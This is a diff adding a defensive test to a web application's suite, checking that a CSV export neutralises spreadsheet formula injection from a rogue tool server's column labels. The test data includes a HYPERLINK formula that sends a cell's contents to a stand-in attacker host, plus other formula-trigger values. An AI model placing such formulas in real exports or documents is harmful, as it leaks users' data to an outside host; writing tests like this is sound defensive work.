@@ -6,6 +6,7 @@ user's bearer. Everything is real HTTP on 127.0.0.1; the canary token is looked 
 place it could land: the page, the console history, the pins, the audit log, kb_ask's output.
 """
 
+import csv
 import io
 import json
 import time
@@ -145,6 +146,33 @@ def test_an_echoed_bearer_in_a_tool_error_is_not_kept(fault, rogue, superuser):
     assert turn.status == "tool_error"
     assert turn.message == "denied for Bearer [redacted]"
     assert_no_canary(page, turn.message)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+
+
+def test_a_hostile_column_label_reaches_the_csv_as_text_not_a_formula(fault, rogue, superuser):
+    def tools_call(recorded, message):
+        answer = kb_answer(3)
+        answer["columns"] = [
+            {"name": "customer_id", "label": FORMULA},
+            {"name": "name", "label": "@SUM(1+1)"},
+        ]
+        answer["rows"][0]["name"] = "+1-2"
+        return Reply.json(result(message["id"], {"content": [], "structuredContent": answer}))
+
+    fault.on("tools/call", tools_call)
+    console_post(
+        superuser, server=rogue.server_id, one_time_bearer=CANARY, prompt=PROMPT, action="call"
+    )
+    (turn,) = ConsoleTurn.objects.filter(user=superuser)
+    browser = Client()
+    browser.force_login(superuser)
+    response = browser.get(f"/admin/registry/consoleturn/{turn.pk}/csv/")
+    assert response.status_code == 200
+    header, first, *_ = csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")))
+    assert header == ["'" + FORMULA, "'@SUM(1+1)"]
+    assert first[1] == "'+1-2"  # the same rule as every other cell
 
 
 def test_kb_ask_prints_no_echoed_bearer(fault, rogue, settings, tmp_path, committed_db):
